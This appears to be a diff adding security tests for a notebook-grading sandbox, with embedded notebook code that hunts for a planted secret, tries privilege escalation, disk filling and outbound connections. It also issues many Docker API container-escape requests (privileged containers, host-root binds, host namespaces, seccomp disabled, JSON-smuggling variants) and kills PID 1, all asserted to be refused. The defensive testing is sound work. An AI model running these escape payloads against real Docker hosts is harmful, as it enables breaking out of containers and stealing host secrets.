@@ -1,0 +1,194 @@
+"""Notebooks that attack: what they can reach from where a student's code runs, seen from inside and from outside."""
+
+import json
+import os
+import secrets
+import socket
+import sys
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from classroom import CLEAN, SCALE, own_number, solved
+
+from swarmkit_helpers.engine.discover import Engine
+from swarmkit_helpers.grading import isolate
+
+pytestmark = pytest.mark.slow
+
+# What an attack does, and how it tells of it: as a line of JSON, in the output of its cell.
+LOOK = """
+import glob, json, os, socket, subprocess
+found = {}
+def attempt(name, do):
+    try: found[name] = repr(do())[:2000]
+    except BaseException as error: found[name] = f"refused: {type(error).__name__}"
+def everything():
+    for folder, folders, names in os.walk("/", followlinks=False):
+        folders[:] = [] if folder.startswith(("/proc", "/sys", "/dev", "/usr", *PYTHON)) else folders
+        for name in names:
+            try: text = open(os.path.join(folder, name), "rb").read(100_000)
+            except OSError: continue
+            if CANARY in text: return os.path.join(folder, name)
+    return "nothing"
+def connected(address):
+    with socket.create_connection(address, timeout=3) as tried: tried.sendall(b"hello"); return "connected"
+def filled(folder):
+    size = 0
+    try:
+        with open(f"{folder}/filler", "wb") as file:
+            for _ in range(600): size += file.write(bytes(1 << 20)); file.flush()
+    except OSError: pass
+    finally:
+        if os.path.exists(f"{folder}/filler"): os.unlink(f"{folder}/filler")
+    return size
+attempt("canary", everything)
+attempt("environment", lambda: sorted(os.environ))
+attempt("uid", os.getuid)
+attempt("status", lambda: [line for line in open("/proc/self/status") if line.startswith(("CapEff", "NoNewPrivs"))])
+attempt("root", lambda: os.setuid(0))
+attempt("write", lambda: open("/usr/canary", "w"))
+attempt("write here", lambda: open("/canary", "w"))
+attempt("package", lambda: open(PACKAGE, "a"))
+attempt("processes", lambda: len([name for name in os.listdir("/proc") if name.isdigit()]))
+attempt("sockets", lambda: [path for folder in ("/run/*", "/run/*/*", "/var/run/*", "/exam/*", "/*")
+                            for path in glob.glob(f"{folder}.sock")])
+attempt("door", lambda: os.unlink("/room/door/engine.sock"))
+attempt("host", lambda: connected(HOST))
+attempt("internet", lambda: connected(("192.0.2.1", 80)))
+attempt("interfaces", lambda: sorted(os.listdir("/sys/class/net")))
+attempt("mount", lambda: subprocess.run(["mount", "-t", "tmpfs", "none", "/home"], check=True))
+for folder in ("/tmp", "/home", "/room/kernel"): attempt(f"fill {folder}", lambda: filled(folder))
+"""
+ASK = """
+import http.client
+class Door(http.client.HTTPConnection):
+    def connect(self):
+        self.sock = socket.socket(socket.AF_UNIX); self.sock.settimeout(10); self.sock.connect(self.host)
+def asked(name, method, path, body=None):
+    connection = Door(f"/room/door/{name}.sock")
+    connection.request(method, path, body and (body if isinstance(body, str) else json.dumps(body)).encode())
+    return connection.getresponse().status
+node = "swarmlab-exam-node1"
+mount = {"Image": "busybox", "HostConfig": {"Binds": ["/:/host"]}}
+WANTED = [
+    ("engine", "POST", "/v1.41/containers/create", {"Image": "busybox", "HostConfig": {"Privileged": True}}),
+    ("engine", "POST", "/v1.41/containers/create?name=swarmlab-exam-node9", mount),
+    ("engine", "POST", f"/v1.41/containers/{node}/exec", {"Cmd": ["sh"]}),
+    ("engine", "PUT", f"/v1.41/containers/{node}/archive?path=/", ""),
+    ("engine", "GET", "/v1.41/images/json", None), ("engine", "POST", "/v1.41/images/create?fromImage=x", None),
+    ("engine", "GET", "/v1.41/../v1.41/secrets", None), ("engine", "POST", "/v1.41/build", None),
+    (node, "POST", "/v1.41/containers/create", {"Image": "busybox", "HostConfig": {"Privileged": True}}),
+    (node, "POST", "/v1.41/containers/create", '{"Image": "busybox", "hostconfig": {"privileged": true}}'),
+    (node, "POST", "/v1.41/containers/create", '{"HostConfig": {}, "HostConfig": {"Privileged": true}}'),
+    (node, "POST", "/v1.41/containers/create", '{"HostConfig": {"Bind\\u017f": ["/:/host"]}}'),
+    (node, "POST", "/v1.41/containers/create", mount),
+    *((node, "POST", "/v1.41/containers/create", {"Image": "busybox", "HostConfig": {key: value}}) for key, value in (
+        ("NetworkMode", "host"), ("PidMode", "host"), ("IpcMode", "host"), ("UTSMode", "host"), ("UsernsMode", "host"),
+        ("CapAdd", ["SYS_ADMIN"]), ("Devices", [{"PathOnHost": "/dev/sda"}]), ("SecurityOpt", ["seccomp=unconfined"]),
+        ("DeviceCgroupRules", ["a *:* rwm"]), ("VolumesFrom", ["x"]), ("CgroupParent", "/"), ("Runtime", "other"),
+        ("Mounts", [{"Type": "bind", "Source": "/", "Target": "/host"}]), ("MaskedPaths", []))),
+    (node, "POST", "/v1.41/services/create", {"Name": "x", "TaskTemplate": {"ContainerSpec": {
+        "Image": "busybox", "Mounts": [{"Type": "bind", "Source": "/", "Target": "/host"}]}}}),
+    (node, "POST", "/v1.41/services/create", {"Name": "x", "TaskTemplate": {"Runtime": "plugin"}}),
+    (node, "POST", "/v1.41/volumes/create", {"Name": "x", "DriverOpts": {"type": "none", "o": "bind", "device": "/"}}),
+    (node, "POST", "/v1.41/plugins/pull?remote=x", None), (node, "POST", "/v1.41/session", None),
+]
+for name, *wanted in WANTED: attempt(f"{name} {wanted}", lambda: asked(name, *wanted))
+print(json.dumps(found))
+"""
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[tuple[str, int], list[str]]]:
+    """Where this computer listens to all the world, and who has come."""
+    with socket.create_server(("0.0.0.0", 0)) as server:
+        came: list[str] = []
+
+        def accept() -> None:
+            while True:
+                try:
+                    came.append(str(server.accept()[1]))
+                except OSError:
+                    return
+
+        threading.Thread(target=accept, daemon=True).start()
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as outward:
+            outward.connect(("192.0.2.1", 9))  # nothing is sent: it only says which of our addresses is used
+            address = outward.getsockname()[0]
+        yield (address, server.getsockname()[1]), came
+
+
+def examined(engine: Engine, section: str, **answers: str) -> isolate.Examined:
+    request = {"section": section, "student": "eve", "language": "en", "notebook": solved(section, **answers),
+               "parameters": {}, "engine": "simulated", "speed": 20.0, "seed": 0, "cluster": "exam", "timeout": 120,
+               "cell_timeout": 30, "output_limit": 1 << 20}
+    return isolate.examine(request, engine)
+
+
+def printed(done: isolate.Examined, cell: str) -> Any:
+    [source] = [each for each in json.loads(done.notebook)["cells"] if each["id"] == cell]
+    [text] = [output["text"] for output in source["outputs"] if output.get("name") == "stdout"]
+    return json.loads("".join(text).splitlines()[-1])
+
+
+def points(done: isolate.Examined) -> dict[str, float]:
+    return {each["exercise"]: each["points"] for each in done.result["results"]}
+
+
+def test_nothing_is_to_be_found_and_nothing_passes(engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                                   listener: tuple[tuple[str, int], list[str]]):
+    address, came = listener
+    canary = secrets.token_hex(16)
+    for place in (tmp_path / "home" / "teacher", tmp_path / "graded" / "students" / "ani"):
+        place.mkdir(parents=True)
+        (place / "notes.txt").write_text(canary)
+    monkeypatch.setenv("TEACHERS_SECRET", canary)
+    settings = {"CANARY": canary.encode(), "HOST": address, "PACKAGE": isolate.__file__,
+                "PYTHON": [sys.prefix, sys.base_prefix]}
+    attack = "".join(f"{name} = {value!r}\n" for name, value in settings.items()) + LOOK + ASK
+
+    done = examined(engine, CLEAN, answer_empty=attack)
+
+    found = printed(done, "answer-empty")
+    assert found["canary"].strip("'") == "nothing"
+    assert "TEACHERS_SECRET" not in found["environment"]
+    assert (found["uid"], found["sockets"], found["interfaces"]) == ("64001", "[]", "['lo']")
+    assert "CapEff:\\t0000000000000000" in found["status"] and "NoNewPrivs:\\t1" in found["status"]
+    refused = ("root", "write", "write here", "package", "door", "host", "internet", "mount")
+    assert {name: found[name] for name in refused if not found[name].startswith("refused")} == {}
+    assert int(found["processes"]) < 10
+    sizes = {name: int(found[f"fill {name}"]) >> 20 for name in ("/tmp", "/home", "/room/kernel")}
+    assert sizes["/tmp"] <= 64 and sizes["/home"] <= 64 and sizes["/room/kernel"] <= 1
+    asked = {name: status for name, status in found.items() if name.startswith(("engine ", "swarmlab-"))}
+    assert len(asked) >= 30
+    assert {name: status for name, status in asked.items() if status != "403"} == {}
+    assert came == []
+    assert points(done) == {"leftover": 2, "manager-leaves": 2, "empty": 0}
+
+
+def test_who_kills_all_they_can_costs_only_themselves(engine: Engine):
+    done = examined(engine, SCALE, answer_own_number=own_number("eve"),
+                    answer_even="import os, signal\nos.kill(1, 9)\nos.kill(os.getpid(), 9)")
+    assert done.result["ended"] == "kernel"
+    earned = points(done)
+    assert (earned["spread"], earned["emptiest"], earned["even"]) == (3, 3, 0)
+
+
+def test_a_kernel_that_speaks_nonsense_is_a_sentence(engine: Engine):
+    nonsense = ("import os\nkernel = get_ipython().kernel\n"
+                "for content in ({}, {'data': 7}, {'name': None}, [1, 2]):\n"
+                "    for kind in ('stream', 'display_data', 'error', 'clear_output', 'comm_open', 'status'):\n"
+                "        kernel.session.send(kernel.iopub_socket, kind, content=content,\n"
+                "                            parent=kernel.get_parent('shell'), ident=kernel.topic(kind))")
+    done = examined(engine, CLEAN, answer_empty=nonsense)
+    assert points(done)["leftover"] == 2
+    assert points(done)["empty"] == 0
+
+
+def test_nothing_is_left_of_any_of_it(engine: Engine):
+    mine = {"label": [f"{isolate.LABEL}={os.getpid()}"]}
+    assert engine.api.get("containers", "json", all=True, filters=mine) == []
+    assert not engine.api.get("volumes", filters=mine)["Volumes"]
